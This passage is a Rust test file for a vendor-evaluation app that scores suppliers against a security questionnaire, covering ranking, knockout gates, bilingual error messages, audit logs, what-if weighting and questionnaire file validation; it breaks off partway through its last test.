//! The app's comparison screen data for the demo evaluation: ranked vendors,
//! gates in words, section columns in questionnaire order.

use assay::app::comparison_view;
use assay::scoring::Eligibility;
use assay::store::{demo, Store, StoreError};

#[test]
fn the_demo_comparison_lists_every_vendor_ranked_with_its_gates() {
    let mut store = Store::open_in_memory().unwrap();
    let id = demo::ensure_demo(&mut store).unwrap();
    let view = comparison_view(&store.comparison(id).unwrap());
    assert!(view.evaluation.name.contains("Illustrative sample"));
    assert!(view.evaluation.illustrative);
    assert_eq!(view.vendors.len(), 8);
    // The section columns are the bundled questionnaire's sections, in its order.
    let shipped = crate::support::shipped();
    let ids: Vec<&str> = view.sections.iter().map(|s| s.id.as_str()).collect();
    let expected: Vec<&str> = shipped.sections.iter().map(|s| s.id.as_str()).collect();
    assert_eq!(ids, expected);
    let share_sum: f64 = view.sections.iter().map(|s| s.share).sum();
    assert!((share_sum - 1.0).abs() < 1e-9);
    for v in &view.vendors {
        // The demo's public facts cover a few percent of the score: below the
        // 60 % threshold nobody is ranked and nothing is decided.
        assert!(v.coverage < 0.6, "{}: {}", v.name, v.coverage);
        assert_eq!(v.rank, None, "{}", v.name);
        assert_eq!(
            v.decision.verdict,
            assay::scoring::Verdict::NotEnoughInformation
        );
        assert_eq!(v.sections.len(), shipped.sections.len());
        assert!((0.0..=100.0).contains(&v.total));
        assert!(
            v.unknown > 0,
            "{}: public sources leave questions open",
            v.name
        );
        for f in &v.failed_knockouts {
            assert!(
                !f.requirement.en.is_empty()
                    && !f.requirement.zh_cn.is_empty()
                    && !f.reason.en.is_empty()
                    && !f.reason.zh_cn.is_empty()
            );
        }
        if v.eligibility == Eligibility::NotEligible {
            assert!(!v.failed_knockouts.is_empty());
        }
    }
    // Ranking: eligible, then undetermined, then not eligible; by total within each.
    let rank = |e: Eligibility| match e {
        Eligibility::Eligible => 0,
        Eligibility::Undetermined => 1,
        Eligibility::ProvisionallyNotEligible => 2,
        Eligibility::NotEligible => 3,
    };
    for pair in view.vendors.windows(2) {
        let (a, b) = (&pair[0], &pair[1]);
        assert!(
            rank(a.eligibility) < rank(b.eligibility)
                || (a.eligibility == b.eligibility && a.total >= b.total)
        );
    }
    // Unknown is not "no": with most questions unanswered, no vendor is simply eligible.
    assert!(view
        .vendors
        .iter()
        .all(|v| v.eligibility != Eligibility::Eligible || v.open_knockouts == 0));
    let json = serde_json::to_value(&view).unwrap();
    assert_eq!(
        json["vendors"][0]["eligibility"].as_str().map(|s| [
            "eligible",
            "undetermined",
            "not_eligible"
        ]
        .contains(&s)),
        Some(true)
    );
}

// ---------------------------------------------------------------- the answering form

use assay::answers::SourceKind;
use assay::app::{
    self, AnswerEdit, EditValue, EvaluationEdit, FormView, GateOutcome, InputKind,
    LoadedQuestionnaires, VendorEdit,
};

/// "Tender 2027" on the bundled questionnaire for GLOBAL buyers, as of 2027-01-15.
fn evaluation_edit() -> EvaluationEdit {
    EvaluationEdit {
        name: "Tender 2027".into(),
        profiles: vec!["GLOBAL".into()],
        questionnaire: "assay-im-security".into(),
        as_of: "2027-01-15".into(),
        ..EvaluationEdit::default()
    }
}

fn vendor_edit(name: &str) -> VendorEdit {
    VendorEdit {
        name: name.into(),
        ..VendorEdit::default()
    }
}

/// Creates `edit` with one vendor, Acme Chat; returns (evaluation, vendor).
fn evaluation_with_vendor(store: &mut Store, edit: &EvaluationEdit) -> (i64, i64) {
    let e = app::create_evaluation(store, &LoadedQuestionnaires::default(), edit).unwrap();
    let vendors = app::add_vendor(
        store,
        e.id,
        &VendorEdit {
            product: Some("Acme Enterprise".into()),
            deployment: Some(assay::store::Deployment::Saas),
            ..vendor_edit("Acme Chat")
        },
    )
    .unwrap();
    (e.id, vendors[0].id)
}

fn new_evaluation(store: &mut Store) -> (i64, i64) {
    evaluation_with_vendor(store, &evaluation_edit())
}

fn edit(question: &str, value: EditValue) -> AnswerEdit {
    AnswerEdit {
        question: question.into(),
        value: Some(value),
        ..AnswerEdit::default()
    }
}

fn text(s: &str) -> EditValue {
    EditValue::Text(s.into())
}

fn question<'a>(form: &'a FormView, id: &str) -> &'a app::FormQuestion {
    form.sections
        .iter()
        .flat_map(|s| &s.questions)
        .find(|q| q.id == id)
        .unwrap()
}

#[test]
fn the_form_follows_conditions_and_counts_progress() {
    let mut store = Store::open_in_memory().unwrap();
    let (_, vendor) = new_evaluation(&mut store);
    let form = app::form(&mut store, vendor).unwrap();
    assert_eq!(
        form.sections.len(),
        crate::support::shipped().sections.len()
    );
    assert_eq!(form.answered, 0);
    assert_eq!(form.total, 0.0);
    // E2E-02..07 wait for E2E-01; CRT-13 is for CN-REG buyers only.
    assert!(!question(&form, "E2E-02").visible);
    assert!(!question(&form, "CRT-13").visible);
    let e2e = &form.sections[1];
    assert_eq!(e2e.answered, 0);
    assert_eq!(e2e.visible, 3);
    // Inputs fit the answer types; labels in both languages; units and "no commitment".
    let irv = question(&form, "IRV-01");
    assert_eq!(irv.input.kind, InputKind::Number);
    assert_eq!(irv.input.unit.as_ref().unwrap().en, "hours");
    assert_eq!(irv.input.options.last().unwrap().id, "none");
    assert_eq!(question(&form, "TRN-02").input.kind, InputKind::YesNo);
    assert_eq!(
        question(&form, "TRN-03").input.options[1].label.zh_cn,
        "部分"
    );
    assert_eq!(question(&form, "KEY-02").input.kind, InputKind::Multi);
    assert_eq!(question(&form, "CRT-02").input.kind, InputKind::Date);
    assert!(irv.knockouts[0].active && irv.knockouts[0].profiles.is_empty());
    assert_eq!(irv.knockouts[0].outcome, Some(GateOutcome::Unknown));
    let e2e01 = question(&form, "E2E-01");
    assert_eq!(e2e01.knockouts[0].profiles, ["HIGH-SENS"]);
    assert!(!e2e01.knockouts[0].active);

    // Choosing an option that triggers the condition shows the follow-ups.
    let form = app::save_answer(&mut store, vendor, &edit("E2E-01", text("default-all"))).unwrap();
    assert!(question(&form, "E2E-02").visible);
    assert_eq!(form.sections[1].visible, 9);
    assert_eq!(form.sections[1].answered, 1);
    assert_eq!(form.answered, 1);
    assert_eq!(
        question(&form, "E2E-01").answer_text.as_ref().unwrap().en,
        question(&form, "E2E-01").input.options[0].label.en
    );
    // And the answer that does not hides them again.
    let form =
        app::save_answer(&mut store, vendor, &edit("E2E-01", text("not-available"))).unwrap();
    assert!(!question(&form, "E2E-02").visible);
    assert_eq!(form.sections[1].visible, 3);
}

#[test]
fn saving_an_edit_stores_the_answer_with_its_audit_row_and_rescores() {
    let mut store = Store::open_in_memory().unwrap();
    let (evaluation, vendor) = new_evaluation(&mut store);
    let audit_before = store.audit_log(evaluation).unwrap().len();
    let mut e = edit("IRV-01", EditValue::Number(24.0));
    e.comment = Some("  DPA §7  ".into());
    e.source = Some(SourceKind::ContractClause);
    e.reference = Some("DPA v3 §7.2".into());
    e.source_date = Some("2026-12-01".into());
    let form = app::save_answer(&mut store, vendor, &e).unwrap();
    let stored = store.answer(vendor, "IRV-01").unwrap().unwrap().answer;
    assert_eq!(
        stored.value,
        Some(assay::answers::AnswerValue::Number(24.0))
    );
    assert_eq!(stored.comment.as_deref(), Some("DPA §7"));
    let p = stored.provenance.unwrap();
    assert_eq!(p.reference.as_deref(), Some("DPA v3 §7.2"));
    assert_eq!(p.as_of.unwrap().to_string(), "2026-12-01");
    let log = store.audit_log(evaluation).unwrap();
    assert_eq!(log.len(), audit_before + 1);
    let last = log.last().unwrap();
    assert_eq!(
        (last.entity.as_str(), last.action.as_str()),
        ("answer", "create")
    );
    assert_eq!(last.question.as_deref(), Some("IRV-01"));
    // Claimed (no evidence) halves the score; the gate passes on the vendor's word.
    let q = question(&form, "IRV-01");
    assert_eq!(q.result.raw_score, 100.0);
    assert_eq!(q.result.score, 50.0);
    assert!(q.result.flags.contains(&assay::scoring::Flag::Claimed));
    assert_eq!(q.knockouts[0].outcome, Some(GateOutcome::PassedOnClaim));
    assert!(form.total > 0.0);
    assert_eq!(
        q.answer.as_ref().unwrap().reference.as_deref(),
        Some("DPA v3 §7.2")
    );

    // 96 hours fails the 72-hour gate. On the vendor's word alone (the question
    // requires evidence) the failure is provisional, never a final NOT ELIGIBLE …
    let form =
        app::save_answer(&mut store, vendor, &edit("IRV-01", EditValue::Number(96.0))).unwrap();
    assert_eq!(
        form.eligibility,
        assay::scoring::Eligibility::ProvisionallyNotEligible
    );
    assert_eq!(form.failed_knockouts[0].question, "IRV-01");
    assert_eq!(
        question(&form, "IRV-01").knockouts[0].outcome,
        Some(GateOutcome::Failed)
    );
    // … and final once the contract clause behind it is recorded: not eligible,
    // whatever the total.
    let clause = app::EvidenceEdit {
        kind: assay::answers::EvidenceKind::ContractClause,
        identifier: Some("DPA v3 §7.2".into()),
        issuer: None,
        scope: None,
        issued: Some("2026-01-01".into()),
        expires: None,
        url: None,
    };
    let form = app::add_evidence(&mut store, vendor, "IRV-01", &clause).unwrap();
    assert_eq!(form.eligibility, assay::scoring::Eligibility::NotEligible);
    assert!(!form.failed_knockouts[0].provisional);
    assert_eq!(
        store.audit_log(evaluation).unwrap().last().unwrap().action,
        "update"
    );
    let comparison = comparison_view(&store.comparison(evaluation).unwrap());
    assert_eq!(
        comparison.vendors[0].eligibility,
        assay::scoring::Eligibility::NotEligible
    );
    app::remove_evidence(&mut store, vendor, "IRV-01", 0).unwrap();

    // Emptying the answer removes it (unknown again), with its audit row.
    let form = app::save_answer(
        &mut store,
        vendor,
        &AnswerEdit {
            question: "IRV-01".into(),
            ..AnswerEdit::default()
        },
    )
    .unwrap();
    assert!(question(&form, "IRV-01").answer.is_none());
    assert!(store.answer(vendor, "IRV-01").unwrap().is_none());
    assert_eq!(
        store.audit_log(evaluation).unwrap().last().unwrap().action,
        "delete"
    );
}

#[test]
fn invalid_edits_are_refused_in_plain_words_in_both_languages_with_labels() {
    let mut store = Store::open_in_memory().unwrap();
    let (evaluation, vendor) = new_evaluation(&mut store);
    let audit_before = store.audit_log(evaluation).unwrap().len();
    let err = |e: AnswerEdit, store: &mut Store| -> String {
        app::save_answer(store, vendor, &e).unwrap_err().to_string()
    };
    // A value the question cannot take: in both languages, with the answers'
    // labels, never their ids (the app shows `text()`; the terminal, English).
    let refused = |e: AnswerEdit, store: &mut Store| -> assay::Text {
        app::save_answer(store, vendor, &e).unwrap_err().text()
    };
    let t = refused(edit("TRN-02", text("maybe")), &mut store);
    assert_eq!(
        t.en,
        "TRN-02 for Acme Chat: “maybe” is not one of the answers: “Yes” / “No”."
    );
    assert_eq!(
        t.zh_cn,
        "TRN-02（Acme Chat）：“maybe”不是可选的回答；可选：“是”、“否”。"
    );
    assert_eq!(
        err(edit("TRN-02", text("maybe")), &mut store),
        format!("answer: {}", t.en)
    );
    let t = refused(edit("KEY-05", text("约90天")), &mut store);
    assert_eq!(
        t.en,
        "KEY-05 for Acme Chat: “约90天” is not a number: type a number (days), or choose \
         “Keys are never rotated” / “no commitment”."
    );
    assert_eq!(
        t.zh_cn,
        "KEY-05（Acme Chat）：“约90天”不是数字：请输入数字（天），或选择“密钥从不轮换”、“无承诺”。"
    );
    assert!(
        !t.zh_cn.contains("never") && !t.en.contains("'never'"),
        "{t:?}"
    );
    let t = refused(edit("IRV-01", EditValue::Number(-3.0)), &mut store);
    assert!(t.en.ends_with("-3 is not a number of 0 or more."), "{t:?}");
    assert!(t.zh_cn.ends_with("-3 不是大于或等于 0 的数字。"), "{t:?}");
    let m = err(
        AnswerEdit {
            question: "IRV-01".into(),
            na: Some("no incidents".into()),
            ..AnswerEdit::default()
        },
        &mut store,
    );
    assert!(
        m.ends_with("question IRV-01 does not allow \"not applicable\""),
        "{m}"
    );
    let m = err(
        AnswerEdit {
            question: "TRN-05".into(),
            na: Some("  ".into()),
            ..AnswerEdit::default()
        },
        &mut store,
    );
    assert!(m.ends_with("\"not applicable\" needs a reason"), "{m}");
    let t = refused(edit("CRT-02", text("03/04/2027")), &mut store);
    assert!(
        t.en.ends_with("“03/04/2027” is not a date: type it as 2026-11-29."),
        "{t:?}"
    );
    assert!(
        t.zh_cn
            .ends_with("“03/04/2027”不是日期：请按 2026-11-29 的格式输入。"),
        "{t:?}"
    );
    let m = err(edit("XYZ-01", text("yes")), &mut store);
    assert!(m.contains("there is no question \"XYZ-01\""), "{m}");
    let mut no_kind = edit("TRN-02", text("yes"));
    no_kind.reference = Some("https://example.com".into());
    assert!(err(no_kind, &mut store).contains("kind of source"));
    // Nothing was written.
    assert!(store.answers(vendor).unwrap().is_empty());
    assert_eq!(store.audit_log(evaluation).unwrap().len(), audit_before);
    // An answers file says it by id, as the questionnaire's author wrote them.
    let q = store.questionnaire(evaluation).unwrap();
    let question = q.question("TRN-02").unwrap();
    let answer = assay::answers::Answer {
        question: "TRN-02".into(),
        value: Some(assay::answers::AnswerValue::Text("maybe".into())),
        ..Default::default()
    };
    assert_eq!(
        assay::scoring::read(question, Some(&answer)).unwrap_err(),
        "'maybe' is not one of yes / no"
    );
}

#[test]
fn the_breakdown_adds_up_to_the_total() {
    let mut store = Store::open_in_memory().unwrap();
    let id = demo::ensure_demo(&mut store).unwrap();
    for v in store.vendors(id).unwrap() {
        let form = app::form(&mut store, v.id).unwrap();
        let micro = |x: f64| (x * 1e6).round() as i64;
        let sections: i64 = form.sections.iter().map(|s| micro(s.contribution)).sum();
        assert_eq!(sections, micro(form.total_points), "{}", v.name);
        for s in &form.sections {
            let questions: i64 = s
                .questions
                .iter()
                .map(|q| micro(q.result.contribution))
                .sum();
            assert_eq!(questions, micro(s.contribution), "{} {}", v.name, s.id);
            if let Some(score) = s.score {
                // Σ(w·s)/Σw over the questions that count.
                let ws: f64 = s
                    .questions
                    .iter()
                    .filter(|q| q.visible && q.weight.is_some())
                    .filter(|q| {
                        matches!(
                            q.result.status,
                            assay::scoring::QuestionStatus::Answered
                                | assay::scoring::QuestionStatus::Unknown
                        )
                    })
                    .map(|q| q.weight.unwrap() * q.result.score)
                    .sum();
                assert!(
                    (ws / s.weight_sum - score).abs() < 0.05 + 1e-9,
                    "{} {}",
                    v.name,
                    s.id
                );
            }
        }
        let row = comparison_view(&store.comparison(id).unwrap())
            .vendors
            .into_iter()
            .find(|r| r.name == v.name)
            .unwrap();
        assert_eq!(row.total, form.total);
        assert_eq!(row.eligibility, form.eligibility);
    }
}

#[test]
fn vendors_are_added_refused_when_duplicate_and_removed() {
    let mut store = Store::open_in_memory().unwrap();
    let (evaluation, vendor) = new_evaluation(&mut store);
    let dup = app::add_vendor(&mut store, evaluation, &vendor_edit(" Acme Chat ")).unwrap_err();
    assert!(dup.to_string().contains("already has a vendor"));
    // Said by the store in both languages, for the app.
    assert_eq!(dup.text().zh_cn, "本评估已有名为“Acme Chat”的供应商。");
    let empty = app::add_vendor(&mut store, evaluation, &vendor_edit("  ")).unwrap_err();
    assert_eq!(empty.text().zh_cn, "供应商名称为空。");
    let list = app::add_vendor(&mut store, evaluation, &vendor_edit("Beta")).unwrap();
    assert_eq!(list.len(), 2);
    app::save_answer(&mut store, vendor, &edit("TRN-02", text("yes"))).unwrap();
    let list = app::remove_vendor(&mut store, vendor).unwrap();
    assert_eq!(
        list.iter().map(|v| v.name.as_str()).collect::<Vec<_>>(),
        ["Beta"]
    );
    let last = store.audit_log(evaluation).unwrap().pop().unwrap();
    assert_eq!(
        (last.entity.as_str(), last.action.as_str()),
        ("vendor", "delete")
    );
    // Bad evaluation input is refused in plain words.
    let bad = app::create_evaluation(
        &mut store,
        &LoadedQuestionnaires::default(),
        &EvaluationEdit {
            name: "X".into(),
            profiles: vec![],
            as_of: "15.01.2027".into(),
            ..evaluation_edit()
        },
    );
    assert!(bad
        .unwrap_err()
        .to_string()
        .contains("is not a date in the form YYYY-MM-DD"));
    let bad = app::create_evaluation(
        &mut store,
        &LoadedQuestionnaires::default(),
        &EvaluationEdit {
            name: "X".into(),
            profiles: vec!["NOPE".into()],
            ..evaluation_edit()
        },
    );
    assert!(bad.unwrap_err().to_string().contains("no profile \"NOPE\""));
}

// ---------------------------------------------------------------- the compare screen

/// The demo's radar chart is the PDF's geometry: a polygon per vendor in rank
/// order, one point per section at radius score/100 (report::radar::polygon).
#[test]
fn the_radar_chart_uses_the_report_geometry() {
    let mut store = Store::open_in_memory().unwrap();
    let id = demo::ensure_demo(&mut store).unwrap();
    let view = comparison_view(&store.comparison(id).unwrap());
    assert!(!view.what_if);
    let radar = &view.radar;
    let n = crate::support::shipped().sections.len();
    assert_eq!(radar.axes.len(), n);
    assert_eq!(radar.rings.len(), 5);
    assert_eq!(radar.series.len(), 8);
    // Axis 0 points up (y down); axis k of n at angle 2πk/n, clockwise.
    assert!((radar.axes[0].x).abs() < 1e-12 && (radar.axes[0].y + 1.0).abs() < 1e-12);
    for (k, axis) in radar.axes.iter().enumerate() {
        let theta = std::f64::consts::TAU * k as f64 / n as f64;
        assert!(
            (axis.x - theta.sin()).abs() < 1e-12 && (axis.y + theta.cos()).abs() < 1e-12,
            "axis {k} of {n}"
        );
    }
    for (row, series) in view.vendors.iter().zip(&radar.series) {
        assert_eq!(row.name, series.vendor);
        let c = store.comparison(id).unwrap();
        let v = c.vendors.iter().find(|v| v.vendor == row.name).unwrap();
        let scores: Vec<Option<f64>> = c
            .questionnaire
            .sections
            .iter()
            .map(|s| v.section(&s.id).and_then(|r| r.score))
            .collect();
        let expected: Vec<[f64; 2]> = assay::report::radar::polygon(&scores)
            .into_iter()
            .map(|(x, y)| [x, y])
            .collect();
        assert_eq!(series.points, expected);
    }
    // Every vendor has its own marker and dash pattern (black-and-white legend).
    let styles: std::collections::BTreeSet<(String, String)> = radar
        .series
        .iter()
        .map(|s| (s.marker.clone(), format!("{:?}", s.dash)))
        .collect();
    assert_eq!(styles.len(), 8);
    assert!(radar.series[0].dash.is_empty(), "the first series is solid");
}

#[test]
fn what_if_weights_rerank_without_saving() {
    let mut store = Store::open_in_memory().unwrap();
    let id = demo::ensure_demo(&mut store).unwrap();
    let before = comparison_view(&store.comparison(id).unwrap());
    let evaluation_before = store.evaluation(id).unwrap();
    let audit_before = store.audit_log(id).unwrap().len();
    let order =
        |v: &app::ComparisonView| v.vendors.iter().map(|r| r.name.clone()).collect::<Vec<_>>();
    // A weight for every section of the comparison.
    let weights = |weight: &dyn Fn(&app::SectionColumn) -> f64| -> Vec<app::SectionWeight> {
        before
            .sections
            .iter()
            .map(|s| app::SectionWeight {
                section: s.id.clone(),
                weight: weight(s),
            })
            .collect()
    };

    // All weight on one section at a time: some choice must change the ranking.
    let mut changed = false;
    for s in &before.sections {
        let only_s = weights(&|o| if o.id == s.id { 100.0 } else { 0.0 });
        let what_if = app::comparison_what_if(&mut store, id, &only_s).unwrap();
        assert!(what_if.what_if);
        let share: f64 = what_if.sections.iter().map(|c| c.share).sum();
        assert!((share - 1.0).abs() < 1e-9);
        changed |= order(&what_if) != order(&before);
    }
    assert!(
        changed,
        "no single-section weighting changed the demo's ranking"
    );

    // The current shares in percent reproduce the stored comparison.
    let same = weights(&|s| s.share * 100.0);
    let again = app::comparison_what_if(&mut store, id, &same).unwrap();
    assert_eq!(order(&again), order(&before));
    // Nothing was saved.
    assert_eq!(store.evaluation(id).unwrap(), evaluation_before);
    assert_eq!(store.audit_log(id).unwrap().len(), audit_before);
    assert_eq!(comparison_view(&store.comparison(id).unwrap()), before);
    // No weights: the stored comparison.
    assert_eq!(
        app::comparison_what_if(&mut store, id, &[]).unwrap(),
        before
    );

    // Bad weights are refused in a sentence.
    let bad = |section: &str, weight: f64| {
        vec![app::SectionWeight {
            section: section.into(),
            weight,
        }]
    };
    let e = app::comparison_what_if(&mut store, id, &bad("NOPE", 10.0)).unwrap_err();
    assert!(e.to_string().contains("no section \"NOPE\""), "{e}");
    let e = app::comparison_what_if(&mut store, id, &bad("E2E", -1.0)).unwrap_err();
    assert!(e.to_string().contains("0 or more"), "{e}");
    let e = app::comparison_what_if(&mut store, id, &bad("E2E", f64::NAN)).unwrap_err();
    assert!(e.is_user_error(), "{e}");
    let zero = weights(&|_| 0.0);
    assert!(app::comparison_what_if(&mut store, id, &zero).is_err());

    // Saved on request, weights become the evaluation's own; `None` undoes it.
    // Not on the demo, which is read-only: on a copy of it.
    let mut only_e2e = zero.clone();
    only_e2e
        .iter_mut()
        .filter(|w| w.section == "E2E")
        .for_each(|w| w.weight = 100.0);
    let e = app::save_section_weights(&mut store, id, Some(&only_e2e)).unwrap_err();
    assert!(matches!(e, StoreError::ReadOnly { .. }), "{e}");
    assert_eq!(store.evaluation(id).unwrap(), evaluation_before);
    let id = store.duplicate_evaluation(id, "Copy of the demo").unwrap();
    let before = comparison_view(&store.comparison(id).unwrap());
    let saved = app::save_section_weights(&mut store, id, Some(&only_e2e)).unwrap();
    assert!(saved.evaluation.custom_weights && !saved.what_if);
    for s in &saved.sections {
        assert_eq!(s.share, if s.id == "E2E" { 1.0 } else { 0.0 }, "{}", s.id);
    }
    assert_eq!(comparison_view(&store.comparison(id).unwrap()), saved);
    assert!(app::save_section_weights(&mut store, id, Some(&zero)).is_err());
    let restored = app::save_section_weights(&mut store, id, None).unwrap();
    assert!(!restored.evaluation.custom_weights);
    assert_eq!(restored.sections, before.sections);
    assert_eq!(restored.vendors, before.vendors);
}

/// "Why this score?" from the comparison: every vendor's total and section scores
/// open a breakdown that gives the same numbers, with the stored or what-if weights.
#[test]
fn every_comparison_score_opens_a_breakdown_with_the_same_numbers() {
    let mut store = Store::open_in_memory().unwrap();
    let id = demo::ensure_demo(&mut store).unwrap();
    let check = |store: &mut Store, view: &app::ComparisonView, weights: &[app::SectionWeight]| {
        for row in &view.vendors {
            let why = app::form_what_if(store, row.vendor_id, weights).unwrap();
            assert_eq!(why.vendor.name, row.name);
            assert_eq!(why.total, row.total, "{}", row.name);
            let points: f64 = why.sections.iter().map(|s| s.contribution).sum();
            assert!((points - why.total_points).abs() < 1e-6, "{}", row.name);
            let scores: Vec<Option<f64>> = why.sections.iter().map(|s| s.score).collect();
            let row_scores: Vec<Option<f64>> = row.sections.iter().map(|s| s.score).collect();
            assert_eq!(scores, row_scores, "{}", row.name);
            // The same shares, to the bit: every section applies to every vendor
            // here, so none is renormalised.
            assert_eq!(why.sections.len(), view.sections.len());
            for (s, v) in why.sections.iter().zip(&view.sections) {
                assert_eq!(s.share, v.share, "{} of {}", v.id, row.name);
            }
        }
    };
    let stored = comparison_view(&store.comparison(id).unwrap());
    check(&mut store, &stored, &[]);
    let weights = vec![app::SectionWeight {
        section: "E2E".into(),
        weight: 100.0,
    }];
    let what_if = app::comparison_what_if(&mut store, id, &weights).unwrap();
    assert_ne!(what_if.vendors, stored.vendors);
    check(&mut store, &what_if, &weights);
    assert!(app::form_what_if(&mut store, 999_999, &[]).is_err());
    // The complete fictional example (two profiles, every section answered) too.
    let example = demo::ensure_example(&mut store).unwrap();
    let stored = comparison_view(&store.comparison(example).unwrap());
    check(&mut store, &stored, &[]);
}

#[test]
fn evidence_counts_follow_the_as_of_date() {
    use assay::answers::EvidenceKind;
    // The same answer and evidence (expiring 2027-03-01), judged at three dates.
    let mut store = Store::open_in_memory().unwrap();
    let mut counts = |as_of: &str| {
        let (evaluation, vendor) = evaluation_with_vendor(
            &mut store,
            &EvaluationEdit {
                as_of: as_of.into(),
                ..evaluation_edit()
            },
        );
        app::save_answer(&mut store, vendor, &edit("IRV-01", EditValue::Number(24.0))).unwrap();
        let mut piece = evidence_edit(EvidenceKind::ContractClause);
        piece.issued = Some("2026-06-01".into());
        piece.expires = Some("2027-03-01".into());
        app::add_evidence(&mut store, vendor, "IRV-01", &piece).unwrap();
        let row = &comparison_view(&store.comparison(evaluation).unwrap()).vendors[0];
        (row.expired_evidence, row.expiring_evidence)
    };
    assert_eq!(counts("2026-09-01"), (0, 0), "valid for months yet");
    assert_eq!(counts("2027-01-15"), (0, 1), "expires within 90 days");
    assert_eq!(counts("2027-06-01"), (1, 0), "expired");

    // The demo's rows count exactly the questions the scores flag.
    let mut store = Store::open_in_memory().unwrap();
    let id = demo::ensure_demo(&mut store).unwrap();
    let view = comparison_view(&store.comparison(id).unwrap());
    let c = store.comparison(id).unwrap();
    for (row, v) in view.vendors.iter().zip(&c.vendors) {
        let flagged = |f: assay::scoring::Flag| {
            v.sections
                .iter()
                .flat_map(|s| &s.questions)
                .filter(|q| q.flags.contains(&f))
                .count()
        };
        assert_eq!(
            row.expired_evidence,
            flagged(assay::scoring::Flag::EvidenceExpired)
        );
        assert_eq!(
            row.expiring_evidence,
            flagged(assay::scoring::Flag::ExpiringSoon)
        );
    }
}

/// The "new evaluation" dialog's "load a questionnaire file": a broken file gives
/// every problem located (file:line:column and JSON path) and is not offered; a
/// valid one is offered under its content hash, prefills weights, and becomes
/// the evaluation's exact snapshot, with the weights the user set.
#[test]
fn a_questionnaire_file_is_validated_then_offered_and_used_with_custom_weights() {
    use assay::app::{QuestionnaireFileCheck, SectionWeight};
    use assay::store::fixtures::synthetic_questionnaire_json;
    let dir = tempfile::tempdir().unwrap();
    let mut library = LoadedQuestionnaires::default();

    // Two questions with the same id: located at the second one.
    let broken = dir.path().join("broken.json");
    let text = synthetic_questionnaire_json(3).replacen("Q0002", "Q0001", 1);
    std::fs::write(&broken, &text).unwrap();
    let QuestionnaireFileCheck::Invalid { file, problems } = library.load(&broken) else {
        panic!("a duplicate id must be refused");
    };
    assert_eq!(file, broken.display().to_string());
    let line = text.lines().position(|l| l.contains("\"Q0001\"")).unwrap();
    let second = text
        .lines()
        .skip(line + 1)
        .position(|l| l.contains("\"Q0001\""))
        .unwrap();
    let expected_line = line + 1 + second + 1;
    assert!(
        problems
            .iter()
            .any(|p| p.starts_with(&format!("{file}:{expected_line}:"))
                && p.contains("$.sections[0].questions[1].id")
                && p.contains("Q0001")),
        "{problems:#?}"
    );
    // Not JSON at all, and a file that is not there: still one located sentence each.
    let truncated = dir.path().join("truncated.json");
    std::fs::write(&truncated, &text[..text.len() / 2]).unwrap();
    let QuestionnaireFileCheck::Invalid { problems, .. } = library.load(&truncated) else {
        panic!("truncated JSON must be refused");
    };
    assert!(problems[0].contains("ends too early"), "{problems:?}");
    assert!(matches!(
        library.load(&dir.path().join("missing.json")),
        QuestionnaireFileCheck::Invalid { .. }
    ));
    assert_eq!(library.choices().len(), 1, "only the bundled questionnaire");

    // A valid file: offered after the bundled ones, under its content hash.
    let good = dir.path().join("our-questionnaire.json");
    let text = synthetic_questionnaire_json(60);
    std::fs::write(&good, &text).unwrap();
    let QuestionnaireFileCheck::Loaded { choice } = library.load(&good) else {
        panic!("a valid questionnaire must load");
    };
    assert_eq!(
        choice.key,
        format!("sha256:{}", assay::store::sha256_hex(text.as_bytes()))
    );
    assert_eq!(
        (choice.id.as_str(), choice.questions, choice.bundled),
        ("synthetic", 60, false)
    );
    assert!(matches!(
        library.load(&good),
        QuestionnaireFileCheck::Loaded { .. }
    ));
    let keys: Vec<String> = library.choices().into_iter().map(|c| c.key).collect();
    assert_eq!(keys, ["assay-im-security".to_string(), choice.key.clone()]);
    let shares = app::profile_weights(&library, &choice.key, &[]).unwrap();
    assert_eq!(
        shares.iter().map(|s| s.share).collect::<Vec<_>>(),
        [0.5, 0.5]
    );

    // Created with it and with the user's weights.
    let mut store = Store::open_in_memory().unwrap();
    let edit = EvaluationEdit {
        name: "Own questionnaire".into(),
        profiles: vec![],
        questionnaire: choice.key.clone(),
        as_of: "2027-01-15".into(),
        section_weights: Some(vec![
            SectionWeight {
                section: "S00".into(),
                weight: 70.0,
            },
            SectionWeight {
                section: "S01".into(),
                weight: 30.0,
            },
        ]),
        ..EvaluationEdit::default()
    };
    let created = app::create_evaluation(&mut store, &library, &edit).unwrap();
    assert!(created.custom_weights);
    assert_eq!(created.questionnaire, "synthetic@1.0.0");
    assert_eq!(store.questionnaire_text(created.id).unwrap(), text);
    let view = app::comparison_view(&store.comparison(created.id).unwrap());
    assert_eq!(
        view.sections.iter().map(|s| s.share).collect::<Vec<_>>(),
        [0.7, 0.3]
    );
    assert!(!view.what_if);
    // A key the session never loaded is refused (the page cannot name a path).
    let err = app::create_evaluation(
        &mut store,
        &library,
        &EvaluationEdit {
            questionnaire: "sha256:00".into(),
            ..edit.clone()
        },
    )
    .unwrap_err();
    assert!(
        err.to_string().contains("no questionnaire \"sha256:00\""),
        "{err}"
    );
    // Weights naming a section the questionnaire lacks are refused.
    let err = app::create_evaluation(
        &mut store,
        &library,
        &EvaluationEdit {
            section_weights: Some(vec![SectionWeight {
                section: "IRV".into(),
                weight: 5.0,
            }]),
            ..edit
        },
    )
    .unwrap_err();
    assert!(err.to_string().contains("no section \"IRV\""), "{err}");
}

#[test]
fn profile_weights_prefill_the_new_evaluation_dialog() {
    let none_loaded = LoadedQuestionnaires::default();
    let global =
        app::profile_weights(&none_loaded, "assay-im-security", &["GLOBAL".into()]).unwrap();
    assert_eq!(global.len(), crate::support::shipped().sections.len());
    let sum: f64 = global.iter().map(|s| s.share).sum();
    assert!((sum - 1.0).abs() < 1e-9);
    assert!(global
        .iter()
        .all(|s| !s.title.en.is_empty() && !s.title.zh_cn.is_empty()));
    // No profile: the first profile's weights, as scoring does.
    let none = app::profile_weights(&none_loaded, "assay-im-security", &[]).unwrap();
    assert_eq!(none.iter().map(|s| s.share).sum::<f64>().round(), 1.0);
    assert!(app::profile_weights(&none_loaded, "nope", &[]).is_err());
}

#[test]
fn an_evaluation_is_duplicated_with_its_vendors_and_answers_then_deleted() {
    let mut store = Store::open_in_memory().unwrap();
    let id = demo::ensure_demo(&mut store).unwrap();
    let copy = store.duplicate_evaluation(id, "  My copy  ").unwrap();
    assert_ne!(copy, id);
    let e = store.evaluation(copy).unwrap();
    assert_eq!(e.name, "My copy");
    assert!(!assay::store::demo::is_demo(&e), "the copy is not the demo");
    let original = store.evaluation(id).unwrap();
    assert_eq!((e.as_of, &e.profiles), (original.as_of, &original.profiles));
    assert_eq!(
